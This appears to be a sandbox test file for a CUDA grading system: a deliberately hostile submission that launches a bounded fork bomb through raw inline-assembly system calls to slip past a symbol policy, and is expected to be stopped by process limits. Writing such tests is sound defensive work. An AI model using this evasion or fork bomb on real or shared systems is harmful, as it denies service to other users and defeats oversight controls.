// Attack (resources): a fork bomb, bounded here to 600 processes that each sleep 3 s (a real one
// doubles until the machine can start no process at all: the grader, the other students' runs
// and the login shell included). The forks are raw system calls, so the symbol policy (which
// refuses fork()) cannot see them. Must fail: the runner's processes are limited (its own uid,
// RLIMIT_NPROC), so most forks fail and the submission is graded on its own (wrong) numbers.
// How to read the outcome: the submission's own answer is wrong (every sum is 0) unless the
// attack worked, in which case it computes the true sum. So "passed" means the attack worked,
// and the expected outcome, wrong_answer, means it was stopped.
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <sstream>
#include <string>
#include <vector>

#include <fcntl.h>
#include <signal.h>
#include <sys/stat.h>
#include <unistd.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>

#include "interface.cuh"

// A block-sum kernel (256 threads, one 64-bit atomicAdd per block), exact for any n.
__global__ void blockSums(const int* in, long long* out, int n) {
  __shared__ long long partial[256];
  const unsigned int t = threadIdx.x;
  const long long i = static_cast<long long>(blockIdx.x) * 256 + t;
  partial[t] = i < n ? in[i] : 0;
  __syncthreads();
  for (unsigned int half = 128; half > 0; half /= 2) {
    if (t < half) partial[t] += partial[t + half];
    __syncthreads();
  }
  if (t == 0)
    atomicAdd(reinterpret_cast<unsigned long long*>(out), static_cast<unsigned long long>(partial[0]));
}

// The true sum when the attack worked (see the top of this file); otherwise 0, which is wrong.
static void graded(bool attack_worked, const int* in, long long* out, int n) {
  cudaMemsetAsync(out, 0, sizeof(long long));
  if (attack_worked) blockSums<<<(n + 255) / 256, 256>>>(in, out, n);
}

// A system call made directly (inline assembly on x86-64), naming no C library function, so no
// symbol policy can see it: only the sandbox stands in its way.
[[maybe_unused]] static long rawSyscall(long number, long a = 0, long b = 0, long c = 0, long d = 0) {
#if defined(__x86_64__)
  long result;
  register long r10 __asm__("r10") = d;
  __asm__ volatile("syscall"
                   : "=a"(result)
                   : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10)
                   : "rcx", "r11", "memory");
  return result;
#else
  return syscall(number, a, b, c, d);
#endif
}

// fork(2) by its system call (a child of a threaded process must then make system calls only).
[[maybe_unused]] static long rawFork() {
#if defined(SYS_fork)
  return rawSyscall(SYS_fork);
#else
  return rawSyscall(SYS_clone, SIGCHLD, 0, 0, 0);
#endif
}

[[maybe_unused]] static void rawSleep(long seconds, long nanoseconds) {
  struct timespec pause = {seconds, nanoseconds};
  rawSyscall(SYS_nanosleep, reinterpret_cast<long>(&pause), 0);
}

// True when 600 child processes could be started (they are all waited for).
static bool bombs() {
  std::vector<long> children;
  for (int i = 0; i < 600; ++i) {
    const long child = rawFork();
    if (child < 0) break;
    if (child == 0) {
      rawSleep(3, 0);
      rawSyscall(SYS_exit_group, 0);
    }
    children.push_back(child);
  }
  std::fprintf(stderr, "attack: started %zu processes\n", children.size());
  for (const long child : children) rawSyscall(SYS_wait4, child, 0, 0, 0);
  return children.size() == 600;
}

static void entry(const int* in, long long* out, int n) {
  static const bool bombed = bombs();
  graded(bombed, in, out, n);
}

void reduce_1(const int* in, long long* out, int n) { entry(in, out, n); }
void reduce_2(const int* in, long long* out, int n) { entry(in, out, n); }
void reduce_3(const int* in, long long* out, int n) { entry(in, out, n); }
void reduce_4(const int* in, long long* out, int n) { entry(in, out, n); }
void reduce_5(const int* in, long long* out, int n) { entry(in, out, n); }
void reduce_6(const int* in, long long* out, int n) { entry(in, out, n); }
void reduce_7(const int* in, long long* out, int n) { entry(in, out, n); }
